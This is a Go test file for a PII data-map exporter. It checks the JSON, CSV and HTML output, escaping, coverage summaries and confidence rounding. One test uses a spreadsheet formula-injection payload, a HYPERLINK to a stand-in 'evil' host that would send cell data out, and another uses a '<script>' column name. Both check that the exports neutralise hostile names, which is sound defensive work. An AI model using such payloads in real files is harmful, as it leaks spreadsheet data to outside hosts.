package datamap

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/lethe-cdc/lethe/pipeline/pii"
)

func sample() []Entry {
	e := []Entry{
		{Table: "public.orders", Column: "card_number", Personal: true, Categories: []string{"user.financial.credit_card"}, Confidence: 0.95, Share: 0.7, Seen: 10, NonNull: 10, WithPII: 7, Reasons: []string{"card"}},
		{Table: "public.customers", Column: "email", Personal: true, Categories: []string{"user.contact.email"}, Confidence: 0.99, Share: 1, Seen: 5, NonNull: 5, WithPII: 5},
		{Table: "public.customers", Column: "locale", Categories: []string{}, Seen: 5, NonNull: 5},
		{Table: "public.customers", Column: "<script>", Personal: true, Categories: []string{"user.contact.email"}},
	}
	Sort(e)
	return e
}

func TestSortAndJSON(t *testing.T) {
	e := sample()
	if e[0].Table != "public.customers" || e[0].Column != "<script>" || e[3].Table != "public.orders" {
		t.Fatalf("not sorted by table, column: %v", e)
	}
	var buf bytes.Buffer
	if err := WriteJSON(&buf, e); err != nil {
		t.Fatal(err)
	}
	var back []Entry
	if err := json.Unmarshal(buf.Bytes(), &back); err != nil || len(back) != 4 {
		t.Fatalf("json: %v, %d entries", err, len(back))
	}
	buf.Reset()
	if err := WriteJSON(&buf, nil); err != nil || strings.TrimSpace(buf.String()) != "[]" {
		t.Errorf("empty map must be [], got %q", buf.String())
	}
}

func TestCSV(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteCSV(&buf, sample()); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 5 || rows[0][0] != "table" || len(rows[1]) != len(csvHeader) {
		t.Fatalf("csv shape wrong: %d rows", len(rows))
	}
}

// A hostile schema's names must not run as spreadsheet formulas.
func TestCSVFormulaNames(t *testing.T) {
	var buf bytes.Buffer
	e := []Entry{{Table: "public.t", Column: `=HYPERLINK("http://evil/?"&A1,"x")`, Reasons: []string{"@SUM(1)"}, Categories: []string{}}}
	if err := WriteCSV(&buf, e); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if col, why := rows[1][1], rows[1][9]; !strings.HasPrefix(col, "'=") || !strings.HasPrefix(why, "'@") {
		t.Fatalf("column %q, reasons %q: want both made text with a leading '", col, why)
	}
}

func TestHTML(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteHTML(&buf, "data map", sample()); err != nil {
		t.Fatal(err)
	}
	h := buf.String()
	for _, want := range []string{"<h2>public.customers</h2>", "<h2>public.orders</h2>", "3 of 4 columns hold personal data lethe detects",
		`class="bar" style="width:100%"`, "user.contact.email"} {
		if !strings.Contains(h, want) {
			t.Errorf("html lacks %q", want)
		}
	}
	if strings.Contains(h, "<script>") {
		t.Error("column names must be escaped")
	}
	if strings.Contains(h, "could not be read") {
		t.Error("a map with every column read says some could not be")
	}
	// An audit's unread columns are unknown, not clean: the summary says so.
	e := append(sample(), Entry{Table: "public.hidden", Column: "secret", Categories: []string{}, Coverage: CoverageNone})
	buf.Reset()
	if err := WriteHTML(&buf, "scan", e); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "1 column could not be read in full") {
		t.Error("the summary does not say a column could not be read")
	}
}

// What a DPO reviewing the report needed (a review): purposes per
// recipient and the policy version in every format; in HTML a legend, no
// confidence for columns found clean (0.0% read as unsure), each column
// counted once per kind of data in the chart (not also under user.name for
// user.name.first), and the coverage of a database audit.
func TestReportForTheRecordOfProcessing(t *testing.T) {
	e := []Entry{
		{Table: "public.customers", Column: "full_name", Personal: true, Categories: []string{"user.name", "user.name.first"}, Confidence: 0.9,
			Recipients: []string{"marketing:keep", "support:pseudonymize"}, Policy: "dpo-7",
			RecipientPurposes: map[string][]string{"marketing": {"direct_marketing", "newsletter"}, "support": {"customer_support"}, "default": nil}},
		{Table: "public.consents", Column: "purpose", Categories: []string{}, Recipients: []string{"marketing:keep"}, Policy: "dpo-7"},
	}
	Sort(e)
	var cs, ht bytes.Buffer
	if err := WriteCSV(&cs, e); err != nil {
		t.Fatal(err)
	}
	if err := WriteHTML(&ht, "t", e); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&cs).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	head, row := rows[0], rows[2] // customers after consents
	got := map[string]string{}
	for i, h := range head {
		got[h] = row[i]
	}
	if want := "default: none stated|marketing: direct_marketing, newsletter|support: customer_support"; got["recipient_purposes"] != want || got["policy"] != "dpo-7" {
		t.Errorf("csv recipient_purposes %q, policy %q; want %q, dpo-7", got["recipient_purposes"], got["policy"], want)
	}
	h := ht.String()
	for _, want := range []string{"How to read this report", "as policy dpo-7 decides them", "marketing: direct_marketing, newsletter; support: customer_support",
		"<td>false</td><td></td><td>&ndash;</td>", "<td>user.name.first</td>"} {
		if !strings.Contains(h, want) {
			t.Errorf("html lacks %q", want)
		}
	}
	if strings.Contains(h, "<td>user.name</td>") || strings.Contains(h, "<th>coverage</th>") {
		t.Error("html counts user.name beside user.name.first in its chart, or shows coverage for the stream's map")
	}
	e = append(e, Entry{Table: "public.hidden", Column: "x", Categories: []string{}, Coverage: CoverageSampled})
	ht.Reset()
	if err := WriteHTML(&ht, "scan", e); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(ht.String(), "<th>coverage</th>") || !strings.Contains(ht.String(), "<td>sampled</td>") {
		t.Error("a database audit's report has no coverage column")
	}
}

// Every format says the same of one entry: its times to the fraction of a
// second JSON writes (CSV and HTML cut them to whole seconds), and a table
// whose name holds a dot with its parts quoted apart ("a.b".c is not
// a."b.c", though both are Table "a.b.c").
func TestFormatsAgree(t *testing.T) {
	at := time.Date(2024, 3, 14, 13, 22, 12, 20_000_000, time.UTC)
	e := []Entry{
		{Table: "a.b.c", Schema: "a.b", Column: "id", Categories: []string{}, FirstSeen: at, LastSeen: at},
		{Table: "a.b.c", Schema: "a", Column: "id", Categories: []string{}},
		{Table: "public.customers", Schema: "public", Column: "id", Categories: []string{}},
	}
	Sort(e)
	var js, cs, ht bytes.Buffer
	if err := WriteJSON(&js, e); err != nil {
		t.Fatal(err)
	}
	if err := WriteCSV(&cs, e); err != nil {
		t.Fatal(err)
	}
	if err := WriteHTML(&ht, "t", e); err != nil {
		t.Fatal(err)
	}
	const stamp = "2024-03-14T13:22:12.02Z"
	for name, out := range map[string]string{"json": js.String(), "csv": cs.String(), "html": ht.String()} {
		if !strings.Contains(out, stamp) {
			t.Errorf("%s does not say %s", name, stamp)
		}
	}
	rows, err := csv.NewReader(&cs).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var tables []string
	for _, r := range rows[1:] {
		tables = append(tables, r[0])
	}
	if want := []string{`a."b.c"`, `"a.b".c`, "public.customers"}; !slices.Equal(tables, want) {
		t.Errorf("csv tables %q, want %q", tables, want)
	}
	if !strings.Contains(ht.String(), "&#34;a.b&#34;.c<") || !strings.Contains(ht.String(), "a.&#34;b.c&#34;<") {
		t.Error("html does not name the two tables apart")
	}
}

// Confidence is kept to three decimals, as the CSV shows it: a review saw
// 0.8500000000000001 in the JSON.
func TestFromVerdictRoundsConfidence(t *testing.T) {
	e := FromVerdict(pii.Verdict{Confidence: 0.1 + 0.75})
	if e.Confidence != 0.85 {
		t.Errorf("confidence %v, want 0.85", e.Confidence)
	}
	b, err := json.Marshal(e)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(b), `"confidence":0.85,`) {
		t.Errorf("JSON %s, want confidence 0.85", b)
	}
}

// Rounded, a confidence just below 0.5 must not read as 0.5 beside
// "personal": false, where the README says a column is personal once its
// confidence reaches 0.5. Findings scored 0.5 each (a card number beside
// a word for a phone or an account) in half of a column's values give
// 0.49998.
func TestFromVerdictConfidenceKeepsToTheThreshold(t *testing.T) {
	var s pii.ColumnStats
	card := []pii.Finding{{Category: pii.CreditCard, Score: 0.5, Detector: "card"}}
	for i := range 40 {
		if i%2 == 0 {
			s.Observe("notes", card, false)
		} else {
			s.Observe("notes", nil, false)
		}
	}
	v := s.Verdict()
	if v.Personal || v.Confidence < 0.4995 {
		t.Fatalf("verdict %+v: want not personal, confidence within a rounding of 0.5", v)
	}
	e := FromVerdict(v)
	if e.Confidence >= 0.5 {
		t.Errorf("confidence %v beside personal %v: a reader takes it for the threshold reached", e.Confidence, e.Personal)
	}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, []Entry{e}); err != nil {
		t.Fatal(err)
	}
	if rows, err := csv.NewReader(&buf).ReadAll(); err != nil || rows[1][2] != "false" || rows[1][4] != "0.499" {
		t.Errorf("csv rows %q (%v): want personal false, confidence 0.499", rows, err)
	}
	// Above the threshold, rounding stays as it was.
	if e := FromVerdict(pii.Verdict{Personal: true, Confidence: 0.4999 + 0.0001}); e.Confidence != 0.5 {
		t.Errorf("personal at 0.5: confidence %v", e.Confidence)
	}
}
